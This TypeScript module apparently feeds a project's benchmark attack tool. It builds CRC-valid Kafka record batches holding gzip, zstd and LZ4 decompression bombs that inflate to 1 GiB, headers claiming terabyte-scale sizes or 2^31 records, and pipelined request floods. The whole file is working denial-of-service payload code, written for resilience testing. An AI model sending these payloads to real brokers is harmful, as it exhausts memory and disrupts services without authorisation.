/**
 * What the attack tool (bench/attack.ts) sends: record batches that are valid on the outside
 * (magic 2, lengths right, CRC32C over attributes to the end) and hostile inside, and the
 * small requests it pipelines by the thousand.
 *
 * Bombs: batches whose records section inflates to a gibibyte of zeros.
 *
 *   gzip   a raw deflate stream of 16 MiB of zeros, ended by a sync flush (byte-aligned, not
 *          final), repeated 64 times, then an empty final block, in a gzip member with the
 *          right CRC-32 and ISIZE: 1 GiB from 1,043,796 bytes (deflate's limit is ~1032:1), so
 *          it fits Kafka's default message.max.bytes (1,048,588) with its 61-byte header
 *   zstd   a frame with its content size, then RLE blocks (a 3-byte header and one byte for
 *          128 KiB, the largest block): 1 GiB from 32 KiB
 *   lz4    an LZ4 frame of 4 MiB blocks, each one literal zero and one match of offset 1 to
 *          the block's end but the 5 literals the format wants last: about 255:1 (each 255 of
 *          match length costs a byte), so 1 GiB takes 4.2 MB, past message.max.bytes; the
 *          largest that fits one batch is ~250 MiB
 *
 * Claims: small batches whose headers announce more than anyone should allocate.
 *
 *   zstd content size 1 TiB (single segment: the window is the content), zstd window 1 TiB,
 *   LZ4 content size 1 TiB, snappy (xerial framing, as the Java client writes it) claiming
 *   4 GiB - 1 in its length varint, gzip whose ISIZE claims 4 GiB - 1, and an uncompressed
 *   batch whose recordCount (and lastOffsetDelta) claim 2^31 - 1 records
 *
 * Everything is built once per run and sent again and again unchanged (a broker that stores
 * batches as they came keeps each copy). Pure functions; any thread. The zeros are never held:
 * the largest buffer built is the 16 MiB gzip chunk's input.
 */
import { constants as zlibConstants, crc32, deflateRawSync } from 'node:zlib';
import { encodeRequest } from '../../src/protocol/frame.js';
import { CreateTopics, DescribeConfigs, Fetch, Metadata, Produce } from '../../src/protocol/messages/index.js';
import { BATCH_HEADER_BYTES, BATCH_OFFSETS, encodeBatch } from '../../src/protocol/records/batch.js';
import { CompressionType } from '../../src/protocol/records/compression/index.js';
import { xxhash32 } from '../../src/protocol/records/compression/xxhash32.js';
import { crc32c } from '../../src/protocol/records/crc32c.js';

export const KiB = 1024;
export const MiB = 1024 * KiB;
export const GiB = 1024 * MiB;
export const TiB = 1024 * GiB;
/** Kafka's default message.max.bytes: the largest batch a topic takes unless configured. */
export const KAFKA_MESSAGE_MAX_BYTES = 1_048_588;
export const CLIENT_ID = 'spindle-attack';
export const PRODUCE_VERSION = 9;

/**
 * A magic-2 batch around an already encoded (and maybe compressed) records section, with a
 * CRC32C that matches: what the broker checks first. `recordCount` is what the header claims.
 */
export function wrapBatch(records: Uint8Array, compression: number, recordCount: number): Buffer {
  const b = Buffer.alloc(BATCH_HEADER_BYTES + records.length);
  const now = Date.now();
  b.writeBigInt64BE(0n, BATCH_OFFSETS.baseOffset);
  b.writeInt32BE(b.length - 12, BATCH_OFFSETS.batchLength);
  b.writeInt32BE(-1, BATCH_OFFSETS.partitionLeaderEpoch);
  b.writeInt8(2, BATCH_OFFSETS.magic);
  b.writeInt16BE(compression, BATCH_OFFSETS.attributes);
  b.writeInt32BE(Math.max(0, recordCount - 1), BATCH_OFFSETS.lastOffsetDelta);
  b.writeBigInt64BE(BigInt(now), BATCH_OFFSETS.baseTimestamp);
  b.writeBigInt64BE(BigInt(now), BATCH_OFFSETS.maxTimestamp);
  b.writeBigInt64BE(-1n, BATCH_OFFSETS.producerId);
  b.writeInt16BE(-1, BATCH_OFFSETS.producerEpoch);
  b.writeInt32BE(-1, BATCH_OFFSETS.baseSequence);
  b.writeInt32BE(recordCount, BATCH_OFFSETS.recordCount);
  b.set(records, BATCH_HEADER_BYTES);
  b.writeUInt32BE(crc32c(b, BATCH_OFFSETS.attributes, b.length) >>> 0, BATCH_OFFSETS.crc);
  return b;
}

// ───────────────────────────── bombs ─────────────────────────────

/** The gzip bomb's unit: 16 MiB of zeros per deflate chunk (bigger chunks gain nothing: ~1032:1 is deflate's limit). */
export const GZIP_CHUNK_BYTES = 16 * MiB;
const GZIP_HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
/** A final fixed-Huffman block holding only its end-of-block code. */
const DEFLATE_EMPTY_FINAL = Buffer.from([0x03, 0x00]);

/** A gzip member of `bytes` zeros (a multiple of GZIP_CHUNK_BYTES, or less than one chunk). */
export function gzipZeros(bytes: number): Buffer {
  const chunkBytes = Math.min(bytes, GZIP_CHUNK_BYTES);
  if (bytes % chunkBytes !== 0) throw new RangeError(`a gzip bomb is whole chunks of ${chunkBytes} bytes, not ${bytes}`);
  const zeros = Buffer.alloc(chunkBytes);
  // Sync flush: the chunk ends on a byte boundary and is not final, so copies can follow it.
  const chunk = deflateRawSync(zeros, { level: 9, finishFlush: zlibConstants.Z_SYNC_FLUSH });
  const count = bytes / chunkBytes;
  let crc = 0;
  for (let i = 0; i < count; i++) crc = crc32(zeros, crc);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc >>> 0, 0);
  trailer.writeUInt32LE(bytes % 2 ** 32, 4);
  return Buffer.concat([GZIP_HEADER, ...Array<Buffer>(count).fill(chunk), DEFLATE_EMPTY_FINAL, trailer]);
}

const ZSTD_MAGIC = 0xfd2fb528;
/** zstd's largest block: 128 KiB. */
const ZSTD_BLOCK_MAX = 128 * KiB;
const ZSTD_RLE = 1;
const ZSTD_RAW = 0;

function zstdBlockHeader(last: boolean, type: number, size: number): Buffer {
  const v = (last ? 1 : 0) | (type << 1) | (size << 3);
  return Buffer.from([v & 0xff, (v >>> 8) & 0xff, (v >>> 16) & 0xff]);
}

/** A frame header with an 8-byte content size; single segment (no window descriptor) when `single`, else the window descriptor `windowDescriptor`. */
function zstdFrameHeader(contentSize: number | null, single: boolean, windowDescriptor = 0): Buffer {
  const parts: number[] = [];
  const fcsFlag = contentSize === null ? 0 : 3;
  parts.push((fcsFlag << 6) | (single ? 0x20 : 0));
  if (!single) parts.push(windowDescriptor);
  const head = Buffer.alloc(4 + parts.length + (contentSize === null ? 0 : 8));
  head.writeUInt32LE(ZSTD_MAGIC, 0);
  Buffer.from(parts).copy(head, 4);
  if (contentSize !== null) head.writeBigUInt64LE(BigInt(contentSize), 4 + parts.length);
  return head;
}

/** A zstd frame of `bytes` zeros (a multiple of 128 KiB) in RLE blocks, its content size declared. */
export function zstdZeros(bytes: number): Buffer {
  if (bytes % ZSTD_BLOCK_MAX !== 0 || bytes <= 0) throw new RangeError(`a zstd bomb is whole blocks of ${ZSTD_BLOCK_MAX} bytes, not ${bytes}`);
  const blocks = bytes / ZSTD_BLOCK_MAX;
  const out: Buffer[] = [zstdFrameHeader(bytes, true)];
  const middle = Buffer.concat([zstdBlockHeader(false, ZSTD_RLE, ZSTD_BLOCK_MAX), Buffer.from([0])]);
  for (let i = 0; i < blocks - 1; i++) out.push(middle);
  out.push(zstdBlockHeader(true, ZSTD_RLE, ZSTD_BLOCK_MAX), Buffer.from([0]));
  return Buffer.concat(out);
}

const LZ4_MAGIC = 0x184d2204;
/** FLG: version 01, independent blocks. */
const LZ4_FLG = 0x60;
const LZ4_FLG_CONTENT_SIZE = 0x08;
/** BD: 4 MiB blocks (the largest). */
const LZ4_BD_4MIB = 0x70;
export const LZ4_BLOCK_BYTES = 4 * MiB;
/** Every LZ4 block ends with at least this many literals. */
const LZ4_LAST_LITERALS = 5;

function lz4FrameHeader(contentSize: number | null): Buffer {
  const descriptor = Buffer.alloc(2 + (contentSize === null ? 0 : 8));
  descriptor[0] = LZ4_FLG | (contentSize === null ? 0 : LZ4_FLG_CONTENT_SIZE);
  descriptor[1] = LZ4_BD_4MIB;
  if (contentSize !== null) descriptor.writeBigUInt64LE(BigInt(contentSize), 2);
  const head = Buffer.alloc(4 + descriptor.length + 1);
  head.writeUInt32LE(LZ4_MAGIC, 0);
  descriptor.copy(head, 4);
  // The header checksum: the second byte of xxHash32 of the descriptor (KIP-57: the descriptor only).
  head[head.length - 1] = (xxhash32(descriptor) >>> 8) & 0xff;
  return head;
}

/** One LZ4 block (size-prefixed) that decodes to `bytes` zeros: a literal 0, a match of offset 1, five literal zeros. */
export function lz4ZeroBlock(bytes: number): Buffer {
  const matchLength = bytes - 1 - LZ4_LAST_LITERALS;
  if (matchLength < 4 + 15) throw new RangeError(`an LZ4 zero block needs at least ${4 + 15 + 1 + LZ4_LAST_LITERALS} bytes`);
  let rest = matchLength - 4 - 15;
  const extra: number[] = [];
  while (rest >= 255) {
    extra.push(255);
    rest -= 255;
  }
  extra.push(rest);
  const body = Buffer.concat([Buffer.from([0x1f, 0x00, 0x01, 0x00]), Buffer.from(extra), Buffer.from([LZ4_LAST_LITERALS << 4]), Buffer.alloc(LZ4_LAST_LITERALS)]);
  const sized = Buffer.alloc(4 + body.length);
  sized.writeUInt32LE(body.length, 0);
  body.copy(sized, 4);
  return sized;
}

/** An LZ4 frame of `bytes` zeros in 4 MiB blocks (the last one shorter if need be). */
export function lz4Zeros(bytes: number): Buffer {
  const out: Buffer[] = [lz4FrameHeader(null)];
  const full = lz4ZeroBlock(LZ4_BLOCK_BYTES);
  for (let left = bytes; left > 0; left -= LZ4_BLOCK_BYTES) out.push(left >= LZ4_BLOCK_BYTES ? full : lz4ZeroBlock(left));
  out.push(Buffer.alloc(4)); // end mark
  return Buffer.concat(out);
}

/** The most zeros an LZ4 bomb in 4 MiB blocks can hold within `batchBytes` (a whole number of blocks). */
export function lz4ZerosFitting(batchBytes: number): number {
  const overhead = BATCH_HEADER_BYTES + lz4FrameHeader(null).length + 4;
  return Math.floor((batchBytes - overhead) / lz4ZeroBlock(LZ4_BLOCK_BYTES).length) * LZ4_BLOCK_BYTES;
}

// ───────────────────────────── claims ─────────────────────────────

/** A zstd frame declaring `contentSize` bytes and holding one 128 KiB RLE block. */
export function zstdContentSizeClaim(contentSize: number): Buffer {
  return Buffer.concat([zstdFrameHeader(contentSize, true), zstdBlockHeader(true, ZSTD_RLE, ZSTD_BLOCK_MAX), Buffer.from([0])]);
}

/** A zstd frame whose window descriptor asks for a window of 2^`windowLog` bytes (10-41), no content size, one raw byte. */
export function zstdWindowClaim(windowLog: number): Buffer {
  if (windowLog < 10 || windowLog > 41) throw new RangeError(`zstd window logs run from 10 to 41, not ${windowLog}`);
  return Buffer.concat([zstdFrameHeader(null, false, (windowLog - 10) << 3), zstdBlockHeader(true, ZSTD_RAW, 1), Buffer.from([0])]);
}

/** An LZ4 frame declaring `contentSize` bytes and holding one stored byte. */
export function lz4ContentSizeClaim(contentSize: number): Buffer {
  const block = Buffer.alloc(5);
  block.writeUInt32LE(0x80000001, 0); // stored (high bit), one byte
  return Buffer.concat([lz4FrameHeader(contentSize), block, Buffer.alloc(4)]);
}

const XERIAL_HEADER = Buffer.from([0x82, 0x53, 0x4e, 0x41, 0x50, 0x50, 0x59, 0x00, 0, 0, 0, 1, 0, 0, 0, 1]);

function varint(n: number): Buffer {
  const out: number[] = [];
  while (n >= 0x80) {
    out.push((n % 0x80) | 0x80);
    n = Math.floor(n / 0x80);
  }
  out.push(n);
  return Buffer.from(out);
}

/** Snappy in xerial framing: one chunk whose block's length varint claims `claimBytes`, followed by one literal byte. */
export function snappyLengthClaim(claimBytes: number): Buffer {
  const block = Buffer.concat([varint(claimBytes), Buffer.from([0x00, 0x00])]); // literal tag (length 1), the byte
  const chunk = Buffer.alloc(4 + block.length);
  chunk.writeInt32BE(block.length, 0);
  block.copy(chunk, 4);
  return Buffer.concat([XERIAL_HEADER, chunk]);
}

/** A gzip member of 1 KiB of zeros whose ISIZE trailer claims `claimBytes` (mod 2^32) instead. */
export function gzipSizeClaim(claimBytes: number): Buffer {
  const real = Buffer.alloc(KiB);
  const body = deflateRawSync(real);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc32(real) >>> 0, 0);
  trailer.writeUInt32LE(claimBytes % 2 ** 32, 4);
  return Buffer.concat([GZIP_HEADER, body, trailer]);
}

/** An uncompressed batch of one small record whose header claims `recordCount` records. */
export function recordCountClaim(recordCount: number): Buffer {
  const honest = encodeBatch([{ value: Buffer.from('x') }]);
  return wrapBatch(honest.subarray(BATCH_HEADER_BYTES), CompressionType.None, recordCount);
}

// ───────────────────────────── the payload list ─────────────────────────────

export interface Payload {
  /** Short name for the report. */
  name: string;
  /** What it is and what it claims or inflates to. */
  description: string;
  /** The batch, CRC valid. */
  batch: Buffer;
  /** What its decompression would produce (or its header claims), in bytes. */
  inflatesToBytes: number;
}

export function gzipBomb(): Payload {
  const batch = wrapBatch(gzipZeros(GiB), CompressionType.Gzip, 1);
  return { name: 'gzip-1GiB', description: `gzip, ${batch.length.toLocaleString('en-US')} B inflating to 1 GiB of zeros`, batch, inflatesToBytes: GiB };
}

export function zstdBomb(): Payload {
  const batch = wrapBatch(zstdZeros(GiB), CompressionType.Zstd, 1);
  return { name: 'zstd-1GiB', description: `zstd RLE blocks, ${batch.length.toLocaleString('en-US')} B inflating to 1 GiB of zeros`, batch, inflatesToBytes: GiB };
}

export function lz4Bomb(bytes: number): Payload {
  const batch = wrapBatch(lz4Zeros(bytes), CompressionType.Lz4, 1);
  return { name: `lz4-${Math.round(bytes / MiB)}MiB`, description: `LZ4, ${batch.length.toLocaleString('en-US')} B inflating to ${Math.round(bytes / MiB)} MiB of zeros`, batch, inflatesToBytes: bytes };
}

export function claimPayloads(): Payload[] {
  const claim = (name: string, description: string, records: Buffer, compression: number, inflatesToBytes: number): Payload => ({ name, description, batch: wrapBatch(records, compression, 1), inflatesToBytes });
  return [
    claim('zstd-content-1TiB', 'zstd frame declaring 1 TiB of content, holding 128 KiB', zstdContentSizeClaim(TiB), CompressionType.Zstd, TiB),
    claim('zstd-window-1TiB', 'zstd frame asking for a 1 TiB window, holding 1 byte', zstdWindowClaim(40), CompressionType.Zstd, TiB),
    claim('lz4-content-1TiB', 'LZ4 frame declaring 1 TiB of content, holding 1 byte', lz4ContentSizeClaim(TiB), CompressionType.Lz4, TiB),
    claim('snappy-length-4GiB', 'snappy (xerial) block whose length varint claims 4 GiB - 1, holding 1 byte', snappyLengthClaim(2 ** 32 - 1), CompressionType.Snappy, 2 ** 32 - 1),
    claim('gzip-isize-4GiB', 'gzip of 1 KiB whose ISIZE trailer claims 4 GiB - 1', gzipSizeClaim(2 ** 32 - 1), CompressionType.Gzip, 2 ** 32 - 1),
    { name: 'records-2^31', description: 'uncompressed batch of 1 record whose header claims 2,147,483,647 records', batch: recordCountClaim(2 ** 31 - 1), inflatesToBytes: NaN },
  ];
}

// ───────────────────────────── requests ─────────────────────────────

/** A Produce request (v9, acks=1) putting `batch` into partition 0 of each of `topics`. */
export function produceRequest(topics: string[], batch: Buffer, correlationId = 1): Buffer {
  return Buffer.from(
    encodeRequest(Produce, PRODUCE_VERSION, correlationId, CLIENT_ID, {
      transactionalId: null,
      acks: 1,
      timeoutMs: 30_000,
      topicData: topics.map((name) => ({ name, partitionData: [{ index: 0, records: batch }] })),
    }),
  );
}

/** A Fetch (v12) of partition 0 of `topic` from offset 0, answered at once (maxWaitMs 0) with up to `partitionMaxBytes`. */
export function fetchRequest(topic: string, partitionMaxBytes: number, correlationId: number): Buffer {
  return Buffer.from(
    encodeRequest(Fetch, 12, correlationId, CLIENT_ID, {
      replicaId: -1,
      maxWaitMs: 0,
      minBytes: 1,
      maxBytes: 52_428_800,
      isolationLevel: 0,
      sessionId: 0,
      sessionEpoch: -1,
      topics: [{ topic, partitions: [{ partition: 0, fetchOffset: 0, partitionMaxBytes }] }],
      forgottenTopicsData: [],
      rackId: '',
    }),
  );
}

/** DescribeConfigs (v4) of every config of each of `topics`, with synonyms and documentation: the largest answer per byte asked. */
export function describeConfigsRequest(topics: string[], correlationId: number): Buffer {
  return Buffer.from(
    encodeRequest(DescribeConfigs, 4, correlationId, CLIENT_ID, {
      resources: topics.map((resourceName) => ({ resourceType: 2, resourceName, configurationKeys: null })),
      includeSynonyms: true,
      includeDocumentation: true,
    }),
  );
}

/** Metadata (v9) of every topic (a null list), or of the named ones. */
export function metadataRequest(topics: string[] | null, correlationId: number): Buffer {
  return Buffer.from(
    encodeRequest(Metadata, 9, correlationId, CLIENT_ID, {
      topics: topics ? topics.map((name) => ({ name })) : null,
      allowAutoTopicCreation: false,
      includeTopicAuthorizedOperations: false,
    }),
  );
}

/** CreateTopics (v5) of one-partition topics with the given configs. */
export function createTopicsRequest(topics: string[], configs: Record<string, string>, correlationId: number): Buffer {
  return Buffer.from(
    encodeRequest(CreateTopics, 5, correlationId, CLIENT_ID, {
      topics: topics.map((name) => ({ name, numPartitions: 1, replicationFactor: -1, assignments: [], configs: Object.entries(configs).map(([k, v]) => ({ name: k, value: v })) })),
      timeoutMs: 30_000,
      validateOnly: false,
    }),
  );
}

/**
 * Copies of `make(correlationId)` back to back, each with its own correlation id, until the
 * buffer holds at least `minBytes`: one socket write carries many pipelined requests.
 */
export function pipelined(make: (correlationId: number) => Buffer, minBytes: number): { bytes: Buffer; requests: number } {
  const parts: Buffer[] = [];
  let size = 0;
  for (let id = 1; size < minBytes; id++) {
    const r = make(id);
    parts.push(r);
    size += r.length;
  }
  return { bytes: Buffer.concat(parts), requests: parts.length };
}
